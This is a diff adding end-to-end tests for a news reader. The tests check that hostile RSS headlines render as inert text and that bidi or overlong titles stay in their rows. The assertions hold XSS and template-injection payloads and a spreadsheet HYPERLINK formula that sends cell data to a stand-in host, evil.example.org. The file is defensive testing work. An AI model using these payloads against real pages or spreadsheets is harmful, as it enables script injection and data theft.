@@ -1,0 +1,64 @@
+import { globSync, readFileSync } from "node:fs";
+import { fileURLToPath } from "node:url";
+import { openNews, titlesOn } from "./support/news-page.ts";
+import { newPerson, tell } from "./support/stage-client.ts";
+import { expect, signIn, test } from "./support/test.ts";
+
+const corpus = fileURLToPath(new URL("../hostile/corpus/hostile-feeds", import.meta.url));
+
+/** The items of every hostile RSS document, under titles of their own, in one feed. */
+function hostileDocument(): string {
+  const items = globSync("xss-*.xml", { cwd: corpus }).flatMap((file) => {
+    const document = readFileSync(`${corpus}/${file}`, "utf8");
+    return document.match(/<item>[\s\S]*<\/item>/)?.[0] ?? [];
+  });
+  const named = items.map((item, at) =>
+    item
+      .replace("Alpha Corp lifts guidance", `Alpha Corp lifts guidance ${at}`)
+      .replace("/a</link>", `/a${at}</link>`),
+  );
+  return `<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
+    <title>&lt;img src=x onerror=alert(1)&gt;</title><link>https://news.example.com/</link>${named.join("")}</channel></rss>`;
+}
+
+test("hostile headlines show as text: no dialog, no script, no foreign call, no dangerous link", async ({
+  page,
+}) => {
+  const person = await newPerson({ follows: ["harbor"] });
+  await tell("behave", {
+    room: person.room,
+    wire: "harbor",
+    behaviour: { body: hostileDocument(), contentType: "application/rss+xml", ignoresConditions: true },
+  });
+  await tell("look", { room: person.room });
+  await signIn(page, person);
+  await openNews(page, "/news?count=50");
+  expect(await page.getByRole("article").count()).toBeGreaterThan(20);
+  const titles = await titlesOn(page);
+  expect(titles).toContain('=HYPERLINK("https://evil.example.org/?"&A1,"Alpha")');
+  expect(titles.some((title) => title.includes("<img src=x onerror=alert(1)>"))).toBe(true);
+  expect(titles.some((title) => title.startsWith('{{constructor.constructor("alert(1)")()}}'))).toBe(true);
+  const list = page.getByRole("main").getByRole("list");
+  await expect(list.locator("img, iframe, script, object, embed, style, form, video")).toHaveCount(0);
+  const schemes = await page
+    .getByRole("article")
+    .getByRole("link")
+    .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
+  expect([...new Set(schemes)].toSorted()).toEqual(["https:"]);
+});
+
+test("a headline that tries to leave its place stays in its row", async ({ page }) => {
+  const long = `Apple ${"supercalifragilistic".repeat(12)}`;
+  const headlines = [
+    { wire: "harbor" as const, title: `\u202Eapple rises \u202D`, minutesAgo: 1 },
+    { wire: "harbor" as const, title: long, minutesAgo: 2 },
+    { wire: "harbor" as const, title: "苹果公司公布创纪录的季度业绩", minutesAgo: 3 },
+    { wire: "harbor" as const, title: "أبل تعلن عن نتائج قياسية", minutesAgo: 4 },
+  ];
+  await signIn(page, await newPerson({ follows: ["harbor"], headlines }));
+  await page.setViewportSize({ width: 320, height: 700 });
+  await openNews(page);
+  await expect(page.getByRole("article")).toHaveCount(4);
+  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320);
+  expect((await titlesOn(page)).join("")).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
+});
